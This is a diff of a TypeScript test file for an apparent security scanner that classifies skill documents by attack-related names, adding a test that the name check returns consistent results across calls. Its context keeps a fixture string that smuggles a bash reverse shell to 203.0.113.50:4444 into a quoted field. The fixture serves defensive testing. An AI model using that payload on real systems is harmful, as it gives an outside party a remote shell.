@@ -9,7 +9,7 @@ import assert from 'node:assert/strict';
 import { skillFromTexts } from '../../../../src/core/skill/document.ts';
 import { scanDocument } from '../../../../src/core/engine/scan.ts';
 import { rules } from '../../../../src/core/modules/sentinel/index.ts';
-import { descriptionOf } from '../../../../src/core/modules/sentinel/view-genre.ts';
+import { descriptionOf, isAttackTopicName } from '../../../../src/core/modules/sentinel/view-genre.ts';
 
 const SHELL = "x'; bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'; echo '";
 
@@ -203,4 +203,11 @@ test('attack documents: the name of a training skill counts with its description
   };
   assert.deepEqual(level('shop-staff-phishing-training'), ['info']);
   assert.deepEqual(level('shop-staff-training'), ['error']);
+});
+
+test('a name is read the same on every call: one skill scanned after another gets the same verdict (no state carried between scans)', () => {
+  // (the name's two patterns are global; a test() that kept lastIndex answered "no" on every other call)
+  const answers = ['ctf-notes', 'ctf-notes', 'phishing-training', 'ctf-notes', 'red-team-labs', 'red-team-labs'].map(isAttackTopicName);
+  assert.deepEqual(answers, [true, true, true, true, true, true]);
+  assert.equal(isAttackTopicName('notes-helper'), false);
 });
